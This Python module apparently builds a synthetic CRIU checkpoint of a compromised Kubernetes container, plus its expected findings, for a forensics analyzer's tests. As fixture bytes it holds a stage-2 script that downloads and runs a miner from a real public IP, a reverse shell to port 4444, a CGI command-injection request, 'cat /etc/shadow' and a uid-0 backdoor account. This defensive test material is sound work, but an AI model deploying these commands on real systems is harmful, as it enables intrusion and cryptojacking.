"""The compromised container every stand-in checkpoint shows, built around the real CRIU sample.

Decision: the real sample (../shared/criu-sample: CRIU 4.2 dumping `/usr/bin/sleep 1000`) stays a
real process of the tree, not its init. Its per-process images (core, mm, pagemap, fs, ids,
fdinfo-2, pages-1) and its nine files.img entries are kept byte for byte, renamed from pid 17508
to SLEEP_PID; only its credentials are rewritten when the pod is not privileged (the sample ran
with every capability). The container's init is a small web server (busybox httpd) at the
sample's pid 17508, so the pid the kubelet's status and CRIU's refusal name (archive.CRIU_PID)
is still the dump's root. Around it, synthesized with the same encoder:

    17508 httpd -f -p 8080 -h /srv/www    init; listens on TCP 0.0.0.0:8080 and unix
                                          /run/httpd.sock; a connected UDP socket to kube-dns
      17531 sh -i                         a reverse shell: fds 0-2 are one TCP socket
                                          ESTABLISHED 10.244.1.23:38412 -> 45.33.32.156:4444;
                                          fd 3 a memfd "kworker" holding an ELF; fd 10
                                          /tmp/.x/stage2, deleted but open (a CRIU ghost file)
        17544 /usr/bin/sleep 1000         the real sample
    17562 sh (kubectl exec)               frozen with the cgroup, not dumped: dump.log warns

The synthesized processes' core images are the sample's core with comm, credentials (and so
capabilities) rewritten field by field (protobuf.replace): their registers are the sleep's.

Why 45.33.32.156: it must count as a public address. 192.0.2.0/24, 198.51.100.0/24 and
203.0.113.0/24 are TEST-NETs (RFC 5737), which Python's ipaddress reports as not global; this one is
globally routable (scanme.nmap.org, a host its owner invites the public to probe), so
`ipaddress.ip_address("45.33.32.156").is_global` is True and nobody is harmed by its appearing.

The writable layer (rootfs_changes) adds /tmp/.x/ and the dropped ELF /tmp/.x/miner, changes
/etc/passwd (a uid-0 account appended) and deletes /var/log/httpd/access.log; dump_log() is
CRIU's log of this dump. EXPECTED lists all of it for the analyzer's and the demo's tests.
"""

from __future__ import annotations

import hashlib
import json
import struct
from functools import lru_cache
from pathlib import Path

from standin.criu import images as im
from standin.criu.protobuf import LENGTH, encode, key, replace, varint

PAGE = 4096
SERVER_PID, SHELL_PID, SLEEP_PID, EXEC_PID = 17508, 17531, 17544, 17562
SAMPLE_PID = 17508  # the pid in the sample's file names (core-17508.img, ...)
POD_IP = "10.244.1.23"
C2 = ("45.33.32.156", 4444)
PADDING_PAGES_ID = 2  # pages-2.img is the archive's size padding (standin.kube.archive.PADDING_MEMBER)

# Capabilities as two u32 words (creds.proto cap_* repeated uint32, CR_CAP_SIZE = 2)
CAPS = {
    # containerd pkg/oci/spec.go defaultUnixCaps (the CRI plugin's default for an unprivileged container)
    "containerd": ["CAP_CHOWN", "CAP_DAC_OVERRIDE", "CAP_FSETID", "CAP_FOWNER", "CAP_MKNOD", "CAP_NET_RAW",
                   "CAP_SETGID", "CAP_SETUID", "CAP_SETFCAP", "CAP_SETPCAP", "CAP_NET_BIND_SERVICE",
                   "CAP_SYS_CHROOT", "CAP_KILL", "CAP_AUDIT_WRITE"],
    # CRI-O internal/config/capabilities/capabilities_linux.go Default (default_capabilities)
    "cri-o": ["CAP_CHOWN", "CAP_DAC_OVERRIDE", "CAP_FSETID", "CAP_FOWNER", "CAP_SETGID", "CAP_SETUID",
              "CAP_SETPCAP", "CAP_NET_BIND_SERVICE", "CAP_KILL"],
}  # fmt: skip
CAP_BITS = {"CAP_CHOWN": 0, "CAP_DAC_OVERRIDE": 1, "CAP_FOWNER": 3, "CAP_FSETID": 4, "CAP_KILL": 5, "CAP_SETGID": 6,
            "CAP_SETUID": 7, "CAP_SETPCAP": 8, "CAP_NET_BIND_SERVICE": 10, "CAP_NET_RAW": 13,
            "CAP_SYS_CHROOT": 18, "CAP_SYS_ADMIN": 21, "CAP_MKNOD": 27, "CAP_AUDIT_WRITE": 29,
            "CAP_SETFCAP": 31}  # fmt: skip (linux/capability.h)
ALL_CAPS = [4278190079, 511]  # what the sample's core holds: caps 0..40, a privileged process on Linux 6.1


def cap_words(names: list[str]) -> list[int]:
    mask = sum(1 << CAP_BITS[n] for n in names)
    return [mask & 0xFFFFFFFF, mask >> 32]


def _tiny_elf(marker: bytes) -> bytes:
    """A valid static x86-64 ELF executable that exits 0, with `marker` after its code (what a
    YARA rule or a string search finds): ELF header, one PT_LOAD program header, code."""
    base, code = 0x400000, bytes.fromhex("b83c00000031ff0f05")  # mov eax, 60; xor edi, edi; syscall
    body = code + marker
    size = 64 + 56 + len(body)
    header = b"\x7fELF" + bytes([2, 1, 1, 0]) + bytes(8)
    header += struct.pack("<HHIQQQIHHHHHH", 2, 0x3E, 1, base + 120, 64, 0, 0, 64, 56, 1, 0, 0, 0)
    phdr = struct.pack("<IIQQQQQQ", 1, 5, 0, base, base, size, size, 0x1000)
    return header + phdr + body


MINER = _tiny_elf(b"\0xmrig-lite stratum+tcp://45.33.32.156:3333 -u 4Afq9kWallet\0")
MEMFD_PAYLOAD = _tiny_elf(b"\0kworker loader: connect 45.33.32.156:4444\0")
STAGE2 = b"#!/bin/sh\nwget -q -O /tmp/.x/miner http://45.33.32.156/miner && chmod +x /tmp/.x/miner\n/tmp/.x/miner &\n"
PASSWD_BASE = b"root:x:0:0:root:/root:/bin/sh\ndaemon:x:1:1:daemon:/usr/sbin:/bin/false\nwww-data:x:33:33:www-data:/var/www:/bin/false\n"
PASSWD = PASSWD_BASE + b"sysd:x:0:0::/root:/bin/sh\n"
SHELL_HEAP = (b"wget -q -O /tmp/.x/miner http://45.33.32.156/miner\0chmod +x /tmp/.x/miner\0"
              b"stratum+tcp://45.33.32.156:3333\0")  # fmt: skip
SERVER_HEAP = b"GET /cgi-bin/status.cgi?cmd=sh%20-i HTTP/1.1\r\nHost: 10.244.1.23:8080\r\n\r\n\0"

BASE_ENV = ["PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin", "HOME=/root",
            "KUBERNETES_SERVICE_HOST=10.96.0.1", "KUBERNETES_SERVICE_PORT=443"]  # fmt: skip

# files.img ids: 1..9 are the sample's own entries (kept as CRIU wrote them)
BUSYBOX, WWW, DOTX, DEVNULL, OUT, ERR, LISTEN, UDP, UNIX, TCP, GHOST, MEMFD = range(10, 22)
SAMPLE_ROOT = 9  # the sample's "/" entry, every process's root
INODES = {LISTEN: 412901, UDP: 412902, UNIX: 412903, TCP: 413377}
MEMFD_SHMID, MEMFD_PAGES_ID, GHOST_REMAP_ID = 413390, 5, 1

PROCESSES = {
    SERVER_PID: {"ppid": 0, "pgid": SERVER_PID, "sid": SERVER_PID, "comm": "httpd", "exe": "/bin/busybox",
                 "argv": ["httpd", "-f", "-p", "8080", "-h", "/srv/www"], "env": BASE_ENV, "cwd": "/srv/www",
                 "ids": 3, "pages_id": 3, "fds": {0: DEVNULL, 1: OUT, 2: ERR, 3: LISTEN, 4: UDP, 5: UNIX},
                 "heap": SERVER_HEAP, "base": 0x55D0C4A00000, "stack_end": 0x7FFC9A121000},
    SHELL_PID: {"ppid": SERVER_PID, "pgid": SHELL_PID, "sid": SHELL_PID, "comm": "sh", "exe": "/bin/busybox",
                "argv": ["sh", "-i"], "env": [*BASE_ENV, "HISTFILE=/dev/null", "PWD=/tmp/.x"], "cwd": "/tmp/.x",
                "ids": 4, "pages_id": 4, "fds": {0: TCP, 1: TCP, 2: TCP, 3: MEMFD, 10: GHOST},
                "heap": SHELL_HEAP, "base": 0x5581F3200000, "stack_end": 0x7FFE1B7A3000},
    SLEEP_PID: {"ppid": SHELL_PID, "pgid": SLEEP_PID, "sid": SHELL_PID, "comm": "sleep", "exe": "/usr/bin/sleep",
                "argv": ["/usr/bin/sleep", "1000"], "env": ["PATH=/usr/bin:/bin", "FORENSIC_DEMO=1"],
                "cwd": "/srv/workload", "ids": 2, "pages_id": 1, "real": True},
}  # fmt: skip


def sha256(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


EXPECTED = {
    "root_pid": SERVER_PID,
    "pstree": [  # pstree.img order (depth first from the root, as CRIU writes it)
        {"pid": SERVER_PID, "ppid": 0, "pgid": SERVER_PID, "sid": SERVER_PID},
        {"pid": SHELL_PID, "ppid": SERVER_PID, "pgid": SHELL_PID, "sid": SHELL_PID},
        {"pid": SLEEP_PID, "ppid": SHELL_PID, "pgid": SLEEP_PID, "sid": SHELL_PID},
    ],
    "processes": {pid: {k: p[k] for k in ("ppid", "comm", "exe", "argv", "env", "cwd")} | {"uid": 0, "seccomp": "disabled"}
                  for pid, p in PROCESSES.items()},  # fmt: skip
    "real_sample_pid": SLEEP_PID,
    "not_dumped": [{"pid": EXEC_PID, "comm": "sh", "started_by": "kubectl exec"}],
    "dump_log_warning": f"Warn  (criu/seize.c:404): Unexpected process {EXEC_PID} in the freezer cgroup (status 0x80057f)",
    "capabilities": {  # cap_eff words per runtime; privileged pods get every capability (CAP_SYS_ADMIN included)
        "containerd": cap_words(CAPS["containerd"]), "cri-o": cap_words(CAPS["cri-o"]), "privileged": ALL_CAPS},
    "sockets": [
        {"pid": SHELL_PID, "fds": [0, 1, 2], "proto": "tcp", "state": "ESTABLISHED", "local": f"{POD_IP}:38412",
         "peer": f"{C2[0]}:{C2[1]}", "ino": INODES[TCP], "public_peer": True},
        {"pid": SERVER_PID, "fds": [3], "proto": "tcp", "state": "LISTEN", "local": "0.0.0.0:8080", "peer": None,
         "ino": INODES[LISTEN]},
        {"pid": SERVER_PID, "fds": [4], "proto": "udp", "state": "ESTABLISHED", "local": f"{POD_IP}:41877",
         "peer": "10.96.0.10:53", "ino": INODES[UDP]},
        {"pid": SERVER_PID, "fds": [5], "proto": "unix", "state": "LISTEN", "local": "/run/httpd.sock", "peer": None,
         "ino": INODES[UNIX]},
    ],
    "deleted_open_file": {"pid": SHELL_PID, "fd": 10, "path": "/tmp/.x/stage2", "file_id": GHOST,
                          "ghost_image": f"ghost-file-{GHOST_REMAP_ID:x}.img", "size": len(STAGE2),
                          "sha256": sha256(STAGE2)},
    "memfd": {"pid": SHELL_PID, "fd": 3, "name": "kworker", "file_id": MEMFD, "size": len(MEMFD_PAYLOAD),
              "sha256": sha256(MEMFD_PAYLOAD), "elf": True, "shmid": MEMFD_SHMID},
    "memory_strings": {SHELL_PID: ["http://45.33.32.156/miner", "stratum+tcp://45.33.32.156:3333"],
                       SERVER_PID: ["/cgi-bin/status.cgi?cmd=sh%20-i"]},
    "writable_layer": {
        "added": {"/tmp/.x": {"type": "dir"},
                  "/tmp/.x/miner": {"type": "file", "elf": True, "mode": 0o755, "size": len(MINER),
                                    "sha256": sha256(MINER)}},
        "changed": {"/etc/passwd": {"type": "file", "elf": False, "mode": 0o644, "size": len(PASSWD),
                                    "sha256": sha256(PASSWD)}},
        "deleted": ["/var/log/httpd/access.log"],
    },
    "public_address": C2[0],
}  # fmt: skip
EXPECTED["dropped_elf"] = {"path": "/tmp/.x/miner", **EXPECTED["writable_layer"]["added"]["/tmp/.x/miner"]}


# --- the CRIU image set ------------------------------------------------------------------------


def _field(number: int, message: bytes) -> bytes:
    return key(number, LENGTH) + varint(len(message)) + message


def _creds(caps: list[int]) -> bytes:
    ids = dict.fromkeys(("uid", "gid", "euid", "egid", "suid", "sgid", "fsuid", "fsgid"), 0)
    # as CRIU 4.2 writes them (the sample's creds): no groups, ambient capabilities as two zero words
    return encode(im.CREDS, **ids, cap_inh=[0, 0], cap_prm=caps, cap_eff=caps, cap_bnd=caps, secbits=0, cap_amb=[0, 0])


def _core(sample_core: bytes, comm: str | None, caps: list[int] | None) -> bytes:
    """The sample's core image with comm and/or credentials rewritten, every other byte kept."""
    (entry,) = im.entries(sample_core)
    if comm is not None:
        entry = replace(entry, (im.CORE_TC, im.TC_COMM), _field(im.TC_COMM, comm.encode()))
        entry = replace(entry, (im.CORE_THREAD, im.THREAD_COMM), _field(im.THREAD_COMM, comm.encode()))
    if caps is not None:
        entry = replace(entry, (im.CORE_THREAD, im.THREAD_CREDS), _field(im.THREAD_CREDS, _creds(caps)))
    return im.image("core", [entry])


def _stack_page(stack_end: int, argv: list[str], env: list[str], execfn: str) -> tuple[bytes, dict]:
    """The top page of a new process's stack as execve leaves it: argv strings, then the
    environment strings, then the executable's name, then 8 zero bytes at the very top."""
    args = b"".join(a.encode() + b"\0" for a in argv)
    envs = b"".join(e.encode() + b"\0" for e in env)
    tail = args + envs + execfn.encode() + b"\0" + bytes(8)
    page = bytes(PAGE - len(tail)) + tail
    arg_start = stack_end - len(tail)
    ranges = {"mm_arg_start": arg_start, "mm_arg_end": arg_start + len(args),
              "mm_env_start": arg_start + len(args), "mm_env_end": arg_start + len(args) + len(envs)}  # fmt: skip
    return page, ranges


def _process_images(pid: int, p: dict) -> dict[str, bytes]:
    """mm, pagemap, pages, fs, ids and fdinfo of a synthesized process."""
    base, stack_end = p["base"], p["stack_end"]
    heap = base + 0x2000000
    stack_page, ranges = _stack_page(stack_end, p["argv"], p["env"], p["exe"])
    anon = {"pgoff": 0, "shmid": 0, "fd": -1}
    private_file = {"shmid": BUSYBOX, "flags": 0x2, "status": 0x41, "fd": -1, "fdflags": 0}  # MAP_PRIVATE; REGULAR|FILE_PRIVATE
    vmas = [
        {"start": base, "end": base + 0x1000, "pgoff": 0, "prot": 0x1, **private_file},
        {"start": base + 0x1000, "end": base + 0xC3000, "pgoff": 0x1000, "prot": 0x5, **private_file},
        {"start": base + 0xC3000, "end": base + 0xC5000, "pgoff": 0xC3000, "prot": 0x3, **private_file},
        # [heap]: MAP_PRIVATE|MAP_ANON, VMA_AREA_REGULAR|VMA_AREA_HEAP|VMA_ANON_PRIVATE
        {"start": heap, "end": heap + 0x21000, "prot": 0x3, "flags": 0x22, "status": 0x221, **anon},
        # [stack]: MAP_PRIVATE|MAP_ANON|MAP_GROWSDOWN, VMA_AREA_REGULAR|VMA_AREA_STACK|VMA_ANON_PRIVATE
        {"start": stack_end - 0x21000, "end": stack_end, "prot": 0x3, "flags": 0x122, "status": 0x203, **anon},
    ]
    mm = encode(im.MM, mm_start_code=base + 0x1000, mm_end_code=base + 0xC2F31, mm_start_data=base + 0xC3F10,
                mm_end_data=base + 0xC4A28, mm_start_stack=stack_end - 0x1000 + 0x200, mm_start_brk=heap,
                mm_brk=heap + 0x21000, **ranges, exe_file_id=BUSYBOX, mm_saved_auxv=[6, PAGE, 0, 0], vmas=vmas,
                dumpable=1)  # fmt: skip
    heap_page = p["heap"] + bytes(PAGE - len(p["heap"]))
    lazy = im.PE_LAZY | im.PE_PRESENT
    ids = p["ids"]
    return {
        f"mm-{pid}.img": im.image("mm", [mm]),
        f"pagemap-{pid}.img": im.pagemap(p["pages_id"], [(heap, 1, lazy), (stack_end - PAGE, 1, lazy)]),
        f"pages-{p['pages_id']}.img": heap_page + stack_page,
        f"fs-{pid}.img": im.image("fs", [encode(im.FS, cwd_id={"/srv/www": WWW, "/tmp/.x": DOTX}[p["cwd"]],
                                                root_id=SAMPLE_ROOT, umask=0o22)]),  # fmt: skip
        f"ids-{pid}.img": im.image("ids", [encode(im.IDS, vm_id=ids, files_id=ids, fs_id=ids, sighand_id=ids,
                                                  pid_ns_id=1, net_ns_id=2, ipc_ns_id=3, uts_ns_id=4, mnt_ns_id=6,
                                                  user_ns_id=7, cgroup_ns_id=8, time_ns_id=5)]),  # fmt: skip
        f"fdinfo-{ids}.img": im.image("fdinfo", [
            encode(im.FDINFO, id=fid, flags=1 if fd > 2 and pid == SERVER_PID else 0, type=im.FD_TYPES[_KINDS[fid]], fd=fd)
            for fd, fid in sorted(p["fds"].items())]),  # fmt: skip
    }


_KINDS = {BUSYBOX: "REG", WWW: "REG", DOTX: "REG", DEVNULL: "REG", OUT: "PIPE", ERR: "PIPE", LISTEN: "INETSK",
          UDP: "INETSK", UNIX: "UNIXSK", TCP: "INETSK", GHOST: "REG", MEMFD: "MEMFD"}  # fmt: skip


def _new_files() -> list[bytes]:
    """files.img entries of the synthesized processes (ids 10..21), after the sample's nine."""
    O_LARGEFILE, O_RDWR = 0o100000, 0o2
    fown = im.fown()

    def reg(path: str, mode: int, flags: int = 0, size: int | None = None) -> dict:
        return {"flags": flags, "pos": 0, "fown": fown, "name": path, "size": size, "mode": mode}

    def inet(ino: int, kind: int, proto: int, state: int, src: tuple, dst: tuple, flags: int, backlog: int = 0,
             **opts: object) -> dict:
        return {"ino": ino, "family": 2, "type": kind, "proto": proto, "state": state, "src_port": src[1],
                "dst_port": dst[1], "flags": flags, "backlog": backlog, "src_addr": [im.ipv4(src[0])],
                "dst_addr": [im.ipv4(dst[0])], "fown": fown, "opts": im.sk_opts(**opts), "ns_id": 2}  # fmt: skip

    return [
        im.file_entry("REG", BUSYBOX, reg("/bin/busybox", 0o100755, size=1131168)),
        im.file_entry("REG", WWW, reg("/srv/www", 0o40755)),
        im.file_entry("REG", DOTX, reg("/tmp/.x", 0o40755)),
        im.file_entry("REG", DEVNULL, reg("/dev/null", 0o20666, flags=O_LARGEFILE)),
        im.file_entry("PIPE", OUT, {"pipe_id": 412871, "flags": 0x1, "fown": fown}),
        im.file_entry("PIPE", ERR, {"pipe_id": 412872, "flags": 0x1, "fown": fown}),
        # TCP states and socket types as the kernel numbers them (TCP_LISTEN 10, TCP_ESTABLISHED 1)
        im.file_entry("INETSK", LISTEN, inet(INODES[LISTEN], 1, 6, 10, ("0.0.0.0", 8080), ("0.0.0.0", 0),
                                             O_RDWR, backlog=9, reuseaddr=True)),  # fmt: skip
        im.file_entry("INETSK", UDP, inet(INODES[UDP], 2, 17, 1, (POD_IP, 41877), ("10.96.0.10", 53), O_RDWR)),
        im.file_entry("UNIXSK", UNIX, {"ino": INODES[UNIX], "type": 1, "state": 10, "flags": O_RDWR, "uflags": 0,
                                       "backlog": 5, "peer": 0, "fown": fown, "opts": im.sk_opts(),
                                       "name": b"/run/httpd.sock", "ns_id": 2}),  # fmt: skip
        im.file_entry("INETSK", TCP, inet(INODES[TCP], 1, 6, 1, (POD_IP, 38412), C2, O_RDWR, so_keepalive=True)),
        im.file_entry("REG", GHOST, reg("/tmp/.x/stage2", 0o100755, flags=O_LARGEFILE, size=len(STAGE2))),
        im.file_entry("MEMFD", MEMFD, {"flags": O_RDWR | O_LARGEFILE, "pos": 0, "fown": fown, "inode_id": 1}),
    ]


def _sample(directory: Path) -> dict[str, bytes]:
    if not directory.is_dir():
        raise FileNotFoundError(f"CRIU sample not found at {directory} (set FALCO_RESPONSE_SHARED)")
    return {p.name: p.read_bytes() for p in sorted(directory.iterdir()) if p.is_file() and p.name.endswith(".img")}


@lru_cache(maxsize=8)
def criu_image_set(sample_dir: str, runtime: str = "containerd", privileged: bool = False) -> tuple[tuple[str, bytes], ...]:
    """Every file of checkpoint/ for this scenario, sorted by name; built once per (runtime, privileged)."""
    if runtime not in CAPS:
        raise ValueError(f"runtime must be one of {sorted(CAPS)}, got {runtime!r}")
    sample = _sample(Path(sample_dir))
    caps = ALL_CAPS if privileged else cap_words(CAPS[runtime])
    out: dict[str, bytes] = {}
    for name in ("inventory.img", "seccomp.img", "timens-0.img", "fdinfo-2.img", "pages-1.img"):
        out[name] = sample[name]
    for kind in ("mm", "pagemap", "fs", "ids"):  # the sample process, renamed to its pid here
        out[f"{kind}-{SLEEP_PID}.img"] = sample[f"{kind}-{SAMPLE_PID}.img"]
    core = sample[f"core-{SAMPLE_PID}.img"]
    out[f"core-{SLEEP_PID}.img"] = core if privileged else _core(core, None, caps)
    for pid, p in PROCESSES.items():
        if not p.get("real"):
            out[f"core-{pid}.img"] = _core(core, p["comm"], caps)
            out.update(_process_images(pid, p))
    out["pstree.img"] = im.image("pstree", [encode(im.PSTREE, **e, threads=[e["pid"]]) for e in EXPECTED["pstree"]])
    out["files.img"] = im.image("files", im.entries(sample["files.img"]) + _new_files())
    # the deleted-but-open file: remap to a ghost file (criu/files-reg.c dump_ghost_remap, dump_ghost_file)
    out["remap-fpath.img"] = im.image("remap-fpath", [encode(im.REMAP_FPATH, orig_id=GHOST, remap_id=GHOST_REMAP_ID,
                                                             remap_type=1)])  # fmt: skip
    ghost = encode(im.GHOST_FILE, uid=0, gid=0, mode=0o100755, dev=0x2B, ino=1318547,
                   atim={"tv_sec": 1764600000, "tv_usec": 0}, mtim={"tv_sec": 1764600000, "tv_usec": 0})  # fmt: skip
    out[EXPECTED["deleted_open_file"]["ghost_image"]] = im.image("ghost-file", [ghost], STAGE2)
    # the memfd: its inode (memfd.img) and its contents as shmem pages (criu/memfd.c dump_memfd_inode)
    out["memfd.img"] = im.image("memfd", [encode(im.MEMFD_INODE, name="kworker", uid=0, gid=0,
                                                 size=len(MEMFD_PAYLOAD), shmid=MEMFD_SHMID, seals=0, inode_id=1,
                                                 mode=0o100777)])  # fmt: skip
    out[f"pagemap-shmem-{MEMFD_SHMID}.img"] = im.pagemap(MEMFD_PAGES_ID, [(0, 1, im.PE_PRESENT)])
    out[f"pages-{MEMFD_PAGES_ID}.img"] = MEMFD_PAYLOAD + bytes(PAGE - len(MEMFD_PAYLOAD))
    # the reverse shell's TCP stream: queues after the entry (criu/sk-tcp.c dump_tcp_conn_state)
    inq, outq = b"cat /etc/shadow\n", b"$ "
    stream = encode(im.TCP_STREAM, inq_len=len(inq), inq_seq=2923415601, outq_len=len(outq), outq_seq=1183702344,
                    opt_mask=0x7, snd_wscale=7, mss_clamp=1460, rcv_wscale=7, timestamp=3920115,
                    unsq_len=0)  # fmt: skip
    out[f"tcp-stream-{INODES[TCP]:x}.img"] = im.image("tcp-stream", [stream], inq + outq)
    # runc's descriptors.json: the init's stdio as /proc/<pid>/fd links (libcontainer/criu_linux.go)
    out["descriptors.json"] = json.dumps(["/dev/null", "pipe:[412871]", "pipe:[412872]"]).encode()
    return tuple(sorted(out.items()))


# --- the writable layer and CRIU's log -----------------------------------------------------------

ROOTFS_ADDED_DIRS = ["tmp/.x"]
ROOTFS_FILES = {"etc/passwd": (PASSWD, 0o644), "tmp/.x/miner": (MINER, 0o755)}  # relative, as tar names them
ROOTFS_DELETED = EXPECTED["writable_layer"]["deleted"]


def dump_log(node: str = "node-1") -> bytes:
    """CRIU's dump.log for this dump, at runc's log level 4 (debug: timestamps on every line).
    Line format from criu/log.c print_ts ("(%02u.%06u) ") and criu/include/log.h pr_warn
    ("Warn  (%s:%d): " with __FILE__ and __LINE__); the messages from criu/log.c log_init
    (Version, Running on), criu/cr-dump.c cr_dump_tasks, criu/seize.c (SEIZE, Seized task, and
    freezer_wait_processes's warning for a frozen task outside the dumped tree, line 404 at v4.2)."""
    lines = [
        (0.000000, "Version: 4.2 (gitid 0)"),
        (0.000021, f"Running on {node} Linux 6.1.102 #1 SMP PREEMPT_DYNAMIC Debian 6.1.102-1 (2024-07-16) x86_64"),
        (0.000342, f"Dumping processes (pid: {SERVER_PID} comm: httpd)"),
        (0.001130, "Detected cgroup V2 freezer"),
        (0.001902, f"SEIZE {SERVER_PID} (comm httpd): success"),
        (0.001911, f"SEIZE {SHELL_PID} (comm sh): success"),
        (0.001917, f"SEIZE {SLEEP_PID} (comm sleep): success"),
        (0.001924, f"SEIZE {EXEC_PID} (comm sh): success"),
        (0.002310, f"Seized task {SERVER_PID}, state 1"),
        (0.002518, f"Seized task {SHELL_PID}, state 1"),
        (0.002701, f"Seized task {SLEEP_PID}, state 1"),
        (0.002744, EXPECTED["dump_log_warning"]),
        (0.041236, "Writing stats"),
        (0.041402, "Dumping finished successfully"),
    ]
    return "".join(f"({int(t):02d}.{round(t % 1 * 1e6):06d}) {msg}\n" for t, msg in lines).encode()
